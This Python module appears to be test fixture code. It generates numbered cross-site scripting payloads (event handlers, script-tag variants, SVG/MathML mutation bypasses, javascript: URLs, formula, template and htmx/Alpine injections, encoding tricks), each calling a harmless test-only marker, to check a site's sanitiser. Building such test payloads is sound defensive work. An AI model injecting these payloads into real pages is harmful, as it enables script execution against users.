"""XSS payloads: texts that try to become script in a page. Each calls `xss(number)`, which only a test defines.

The categories follow OWASP's cheat sheet, PortSwigger's list and published bypasses of sanitisers (mutation XSS:
Heiderich et al. 2013; noscript, style and namespace confusion: Bentkowski 2020).
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count, product

from challenges.characters import unwanted


@dataclass(frozen=True)
class Payload:
    """A payload; `fires` says that it runs without a click if a page inserts it as HTML, which a test checks."""

    number: int
    category: str
    text: str
    fires: bool = False

    def for_learners(self) -> bool:
        """Whether learners can submit the payload; the site refuses all others."""
        return unwanted(self.text, unseen=True) is None


HANDLERS = (
    # Element, attributes, and whether the event occurs without a click.
    ("img", "src=x onerror", True),
    ("svg", "onload", True),
    ("body", "onload", False),
    ("details open", "ontoggle", True),
    ("video src=x", "onerror", True),
    ("audio src=x", "onerror", True),
    ("input autofocus", "onfocus", True),
    ("select autofocus", "onfocus", False),
    ("style", "onload", True),
    ("iframe", "onload", True),
    ("object data=x", "onerror", False),
    ("link rel=stylesheet href=x", "onerror", True),
    ("script src=x", "onerror", False),
    ("marquee", "onstart", False),
    ("a href=#", "onmouseover", False),
    ("button", "onclick", False),
    ("form", "onsubmit", False),
    ("div", "onpointerover", False),
    ("p tabindex=1 style=animation-name:x", "onanimationstart", False),
)
SCRIPTS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script >{js}</script >",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</script>",
    "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</script><script>{js}</script>",
    "</style><script>{js}</script>",
    "</pre></code><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
)
NAMESPACES = (
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:text/javascript,{js} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{js}><text x=9 y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='{js}'/></svg>#x\">",
    "<svg><set attributeName=href to=javascript:{js}></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.{js}</script>"></foreignObject></svg>',
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math href=javascript:{js}>x</math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
)
FRAMES = (
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<iframe src=javascript:parent.{js}></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<base href=javascript:{js}//>",
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    "<form action=javascript:{js}><button>x</button></form>",
    "<button form=x formaction=javascript:{js}>x</button>",
    "<link rel=import href=data:text/html,<script>{js}</script>>",
)
SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    " javascript:{js}",
    "java&#115;cript:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "javascript:{js}//http://example.org",
    "//javascript:{js}",
)
LINKS = ('<a href="{url}">x</a>', "[x]({url})", "[x](<{url}>)", "![x]({url})", "[x][r]\n\n[r]: {url}\n", "<{url}>")
FORMULAS = (
    "$\\href{{javascript:{js}}}{{x}}$",
    "$\\url{{javascript:{js}}}$",
    "$\\includegraphics{{javascript:{js}}}$",
    '$\\includegraphics[alt=x]{{x" onerror="{js}}}$',
    '$\\htmlData{{x=y" onclick="{js}}}{{x}}$',
    "$\\htmlStyle{{background:url(javascript:{js})}}{{x}}$",
    '$\\htmlClass{{"><img src=x onerror={js}>}}{{x}}$',
    '$\\htmlId{{" onmouseover={js}}}{{x}}$',
    "$\\text{{<img src=x onerror={js}>}}$",
    "$<img src=x onerror={js}>$",
    "$\\unknown<img src=x onerror={js}>$",
    "$$\\def\\a{{\\a\\a}}\\a \\text{{{js}}}$$",
    "\\(\\href{{javascript:{js}}}{{x}}\\)",
    '\\[\\htmlData{{x="onload={js}}}{{x}}\\]',
    "$$\\unicode{{<img src=x onerror={js}>}}$$",
)
TEMPLATES = (
    "{{{{{js}}}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    '{{% include "{js}" %}}',
    "{{% autoescape off %}}<img src=x onerror={js}>{{% endautoescape %}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    '<div x-data x-init="{js}"></div>',
    '<div x-data="{{a: {js}}}"></div>',
    '<img x-data x-on:error="{js}" src=x>',
    "<div x-data x-html=\"'<img src=x onerror={js}>'\"></div>",
    '<div hx-get=/ hx-trigger=load hx-on::before-request="{js}"></div>',
    '<div hx-get=/ hx-trigger="load[{js}]"></div>',
    '<div hx-get=/ hx-trigger=load hx-vals="js:{{a:{js}}}"></div>',
    '<div data-hx-get=/ data-hx-trigger=load data-hx-on:click="{js}"></div>',
    '<div data-events="data:text/event-stream,{js}" data-refresh="javascript:{js}"></div>',
)
BREAKS = (
    '" onmouseover={js} x="',
    "' autofocus onfocus={js} x='",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "` onmouseover={js} `",
    "x onmouseover={js}",
    '";{js}//',
    "';{js}//",
    '\\";{js}//',
    '"-{js}-"',
    "'-{js}-'",
    "\u2028{js}\u2029",
    "*/{js}/*",
    "%22%3E%3Cimg src=x onerror={js}%3E",
)
ESCAPES = (
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={js}\\x3e",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "<\u200bscript>{js}</script>",
    "<script\x00>{js}</script>",
    "\ufeff<script>{js}</script>",
    "\u202e<script>{js}</script>",
    "<\u017fcript>{js}</\u017fcript>",
    "\ue000demo\ue000<img src=x onerror={js}>",
)


def templates() -> Iterator[tuple[str, str, bool]]:
    """Yields the category, the text with a placeholder for the script, and whether it runs without a click."""
    for element, event, fires in HANDLERS:
        yield "handlers", f"<{element} {event}={{js}}>", fires
    yield from (("scripts", one, n in (0, 1, 2, 3, 5, 6)) for n, one in enumerate(SCRIPTS))
    yield from (("namespaces", one, n in (0, 2, 7, 11)) for n, one in enumerate(NAMESPACES))
    yield from (("frames", one, n in (0, 1)) for n, one in enumerate(FRAMES))
    yield from (("links", link.format(url=url), False) for link, url in product(LINKS, SCHEMES))
    for category, group in (
        ("formulas", FORMULAS), ("templates", TEMPLATES), ("attributes", BREAKS), ("escapes", ESCAPES),
    ):  # fmt: skip
        yield from ((category, one, category == "attributes" and "><img" in one) for one in group)


def made() -> Iterator[Payload]:
    numbers = count(1)
    for category, text, fires in templates():
        number = next(numbers)
        yield Payload(number, category, text.format(js=f"xss({number})"), fires)


PAYLOADS = tuple(made())


def texts(learners: bool = False, most: int = 10_000, without: str = "") -> list[str]:
    """The payloads of at most `most` characters without those in `without`; `learners` leaves out refused ones."""
    found = [payload.text for payload in PAYLOADS if len(payload.text) <= most and not set(without) & set(payload.text)]
    return [text for text in found if unwanted(text, unseen=True) is None] if learners else found


def shown(text: str) -> str:
    """The text as a browser returns it for an element, with equal line breaks."""
    return html.unescape(html.escape(text)).replace("\r\n", "\n").replace("\r", "\n")
